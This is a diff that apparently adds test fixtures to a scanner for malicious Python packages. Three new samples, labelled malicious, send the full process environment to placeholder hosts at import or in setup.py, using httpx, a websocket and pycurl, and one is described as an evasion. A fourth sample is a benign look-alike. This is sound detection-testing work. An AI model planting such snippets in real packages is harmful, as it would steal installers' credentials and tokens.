@@ -535,6 +535,31 @@ SOLANA_BENIGN = {
         "def main():\n    print(len(load_keypair()))\n"),
 }
 
+# --- the environment carried in other shapes and by other clients -----------------------
+ENV_PRINTENV = _init("envcheck", (
+    "import subprocess\nimport httpx\n\n"
+    "with httpx.Client(timeout=3) as c:\n"
+    "    c.post('https://e.x.invalid/', content=subprocess.check_output(['printenv']))\n"))
+ENV_UNPACK_WS = _init("wsmetrics", (
+    "import json, os\nfrom websockets.sync.client import connect\n\n"
+    "with connect('wss://m.x.invalid/ws') as w:\n"
+    "    w.send(json.dumps({**os.environ, 'v': 1}))\n"))
+ENV_FSTRING_CURL = _setup("curlenv", (
+    "import os, pycurl\n\n"
+    "c = pycurl.Curl()\n"
+    "c.setopt(c.URL, 'http://127.0.0.1:9/e')\n"
+    "c.setopt(c.POSTFIELDS, f'{os.environ}')\n"
+    "try:\n    c.perform()\nexcept pycurl.error:\n    pass\n"))
+ENV_CHILD_BENIGN = _init("gitver", (
+    "import os, subprocess\nimport requests\n\n"
+    "try:\n"
+    "    __version__ = subprocess.run(['git', 'describe'], capture_output=True, text=True,\n"
+    "                                 env={**os.environ, 'LC_ALL': 'C'}).stdout.strip()\n"
+    "except OSError:\n    __version__ = '0'\n\n\n"
+    "def latest():\n"
+    "    with requests.Session() as s:\n"
+    "        return s.get('https://pypi.org/pypi/gitver/json').json()['info']['version']\n"))
+
 CASES = [
     Case("downloaded ELF written to a memfd and exec'd from /proc/self/fd at import",
          "symcalc", MEMFD_EXECV, "malicious", ("PV301",), kind="wheel"),
@@ -649,4 +674,13 @@ CASES = [
          AI_CONFIGS, "malicious", ("PV303",)),
     Case("benign look-alike: CLI loading the user's Solana keypair to sign locally",
          "solsign", SOLANA_BENIGN, "benign", kind="wheel"),
+    Case("printenv's output posted by an httpx client opened in a with block, at import",
+         "envcheck", ENV_PRINTENV, "malicious", ("PV303",), kind="wheel"),
+    Case("the environment unpacked into a websocket message at import", "wsmetrics",
+         ENV_UNPACK_WS, "malicious", ("PV303",), kind="wheel"),
+    Case("evasion: setup.py formats os.environ into pycurl's POST fields", "curlenv",
+         ENV_FSTRING_CURL, "malicious", ("PV303",)),
+    Case("benign look-alike: git describe at import with the environment handed to the "
+         "child; a version check the user calls", "gitver", ENV_CHILD_BENIGN, "benign",
+         kind="wheel"),
 ]
